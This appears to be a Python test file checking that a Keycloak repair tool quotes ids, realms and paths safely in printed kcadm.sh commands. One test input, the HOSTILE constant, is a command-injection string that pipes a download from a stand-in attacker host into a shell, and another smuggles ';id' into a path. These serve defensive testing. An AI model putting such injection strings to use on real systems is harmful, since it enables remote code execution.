"""A printed command of kcadm.sh is one command, whatever others chose as ids and names."""

import json
import shlex
from dataclasses import replace

from domain.builders import client, leaf
from groupaccess.domain.diagnosis.keycloak_fixes import add_group_mapper, enable, write_into

HOSTILE = "a;curl -s evil.example|sh 'x' $(id)/.."


def test_an_id_that_somebody_chose_is_one_word_of_a_path() -> None:
    mapper = replace(leaf(), id=HOSTILE)
    (command,) = write_into("ADMIN", mapper, "groups")
    program, verb, path, *_ = shlex.split(command.line)
    assert (program, verb) == ("kcadm.sh", "update")
    models, _, last = path.rpartition("/")
    assert models == "clients/client-id/protocol-mappers/models"
    assert not set(last) & set(" ;|'$()/")


def test_a_path_and_a_realm_are_quoted_as_a_shell_wants_it() -> None:
    (command,) = enable("My%20Realm", "clients/a;id")
    assert shlex.split(command.line)[2:5] == ["clients/a;id", "-r", "My%20Realm"]
    assert "'clients/a;id'" in command.line


def test_a_mapper_for_light_tokens_writes_into_them_and_dots_are_no_separators() -> None:
    (command,) = add_group_mapper("ADMIN", client("headlamp", lightweight=True), "team.groups")
    config = json.loads(shlex.split(command.line)[-1])["config"]
    assert config["lightweight.claim"] == "true"
    assert config["claim.name"] == r"team\.groups"
